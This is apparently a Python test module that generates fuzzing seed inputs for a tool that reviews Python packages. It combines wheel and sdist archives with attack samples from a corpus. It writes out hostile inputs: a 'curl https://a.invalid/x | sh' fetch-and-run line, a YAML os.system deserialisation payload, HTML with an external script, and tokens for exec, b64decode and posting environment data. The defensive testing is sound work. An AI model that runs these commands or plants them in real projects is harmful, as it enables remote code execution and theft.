"""What fuzzing starts from: small inputs of every kind that the readers know, the corpus's attacks among them."""

from __future__ import annotations

import gzip
import keyword
import marshal
import pickle
from collections.abc import Iterator, Mapping

from tests.review.corpus.catalogue import ATTACKS, attacked
from tests.review.corpus.elf import make_shared_object
from tests.support.distributions import make_sdist, make_wheel

__all__ = ["PATHS", "dictionary", "of"]

PATHS = (
    "demo/client.py",
    "demo/__init__.py",
    "demo.pth",
    "demo-1.1.dist-info/METADATA",
    "demo-1.1.dist-info/RECORD",
    "demo-1.1.dist-info/WHEEL",
    "demo-1.1.dist-info/entry_points.txt",
    "CHANGELOG.md",
    "NEWS.rst",
    "demo/native.so",
    "demo/data.json",
    "demo/data.pkl",
    "demo/setup.sh",
    "demo/page.html",
    "demo/script.js",
    "demo/service.yaml",
    "demo/page.html.j2",
    "demo/cached.pyc",
    "AGENTS.md",
    "demo/inner.zip",
    "demo-1.1.data/scripts/demo",
    "demo/module.start",
)
_TOKENS = (
    *keyword.kwlist,
    *(
        "exec(",
        "eval(",
        "getattr(",
        "__import__(",
        "b64decode(",
        "lambda:",
        "globals()[",
        "chr(",
        ".join(",
        "import os",
    ),
    *(
        "subprocess",
        "urlopen(",
        "https://a.invalid/",
        "requests.post(",
        "os.environ",
        "marshal.loads(",
        "@",
        "**",
        ":=",
    ),
    *(
        '"""',
        "'''",
        'f"{',
        "\\x00",
        "\\x0A    ",
        "\\\\",
        "Requires-Dist: ",
        "Name: ",
        "Version: ",
        "sha256=",
        "## [1.1]",
    ),
    *(
        "PK\\x03\\x04",
        "PK\\x01\\x02",
        "PK\\x05\\x06",
        "PK\\x06\\x06",
        "ustar\\x00",
        "\\x7fELF",
        "MZ",
        "\\x1f\\x8b\\x08",
    ),
)


def of(target: str) -> Iterator[bytes]:
    """Inputs of one of the targets of ``python -m tests.fuzz``."""
    match target:
        case "archive":
            yield from _archives()
        case "code":
            yield from _code()
        case _:
            yield from _releases()


def dictionary() -> str:
    """Tokens in libFuzzer's notation."""
    return "".join(f'"{token}"\n' for token in (each.replace('"', '\\"') for each in _TOKENS))


def _archives() -> Iterator[bytes]:
    wheel, sdist = make_wheel("demo", "1.0").content, make_sdist("demo", "1.0").content
    yield b"\0" + wheel
    yield b"\0" + make_wheel("demo", "1.0", compress=True).content
    yield b"\1" + wheel
    for kind in (2, 3, 4):
        yield bytes([kind]) + gzip.decompress(sdist)
    yield b"\5" + sdist
    for attack in ATTACKS:
        draft = attacked(attack)
        if draft.remake:
            yield b"\0" + draft.wheel().content
        if draft.remake_sdist:
            yield b"\2" + gzip.decompress(draft.sdist().content)


def _files() -> Mapping[str, set[bytes]]:
    """What the corpus plants, by the ending of its file's name."""
    found: dict[str, set[bytes]] = {}
    for attack in ATTACKS:
        draft = attacked(attack)
        for path, content in {**draft.installed, **draft.around, **draft.beyond}.items():
            if len(content) < 8000:
                found.setdefault(path.rpartition(".")[2], set()).add(content)
    return found


def _code() -> Iterator[bytes]:
    yield from sorted(_files()["py"])


def _releases() -> Iterator[bytes]:
    made = {ending: sorted(contents) for ending, contents in _files().items()}
    made["so"] = [make_shared_object(imports=("system", "connect"), strings=("/bin/sh", "https://a.invalid/"))]
    made["pkl"] = [pickle.dumps({"a": [1, 2.5, b"x"], "b": print}, protocol) for protocol in range(6)]
    made["pyc"] = [b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("import os\nos.getcwd()", "a", "exec"))]
    made["md"] = [b"# Changes\n\n## [1.1] - 2026-01-01\n\n### Fixed\n\n- a `b` ([#1](https://a.invalid/1))\n\n## 1.0\n"]
    made["rst"] = [
        b"Changes\n=======\n\n1.1 (2026-01-01)\n----------------\n\n* one\n* two ``x``\n\n1.0\n---\n\n* old\n"
    ]
    wheel = make_wheel("demo", "1.1", requires=("httpx>=1; python_version > '3'",))
    made["zip"] = [wheel.content]
    made["METADATA"] = [wheel.metadata or b""]
    made["RECORD"] = [
        b"demo/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\ndemo-1.1.dist-info/RECORD,,\n"
    ]
    made["WHEEL"] = [b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"]
    made["txt"] = [b"[console_scripts]\ndemo = demo.client:run [extra]\n[group]\na=b\n"]
    made["html"] = [b"<script src='https://a.invalid/x.js'></script><a onclick=alert(1)>x</a>"]
    made["yaml"] = [b"a: !!python/object/apply:os.system ['id']\nb: [1, {c: d}]\n"]
    for number, path in enumerate(PATHS):
        last = path.rpartition("/")[2]
        for content in made.get(last.rpartition(".")[2], [b"#!/bin/sh\ncurl https://a.invalid/x | sh\n"])[:150]:
            yield bytes([number << 1]) + content
            yield (
                bytes([number << 1 | 1]) + content + content[::-1]
                if last.endswith("so")
                else bytes([number << 1 | 1]) + content * 2
            )
